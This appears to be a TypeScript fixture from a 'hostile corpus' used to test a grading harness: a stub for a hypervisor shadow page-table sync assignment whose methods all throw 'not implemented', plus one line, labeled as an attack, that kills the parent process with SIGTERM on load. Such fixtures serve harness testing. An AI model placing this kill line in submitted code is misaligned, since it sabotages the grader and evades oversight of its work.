// @ts-nocheck
// Hostile corpus, kind kill-parent-sigterm: process.kill(process.ppid, 'SIGTERM') at load.
import { ShadowSync } from '../../reference/hypervisor/shadow/shadow-sync';

// ---- attack ----
try { if (process.ppid > 1) process.kill(process.ppid, 'SIGTERM'); } catch {}

/**
 * Your shadow sync (the assignment's README says exactly what to do): the
 * hypervisor calls it on every trapped guest page-table write, invlpg and
 * CR3 load, and it keeps the shadow tables coherent with the guest's.
 */
export const shadowSync: ShadowSync = {
  pageTableWrite(_write, _context) {
    throw new Error('not implemented: shadowSync');
  },
  invlpg(_va, _context) {
    throw new Error('not implemented: shadowSync');
  },
  cr3Write(_root, _context) {
    throw new Error('not implemented: shadowSync');
  },
};
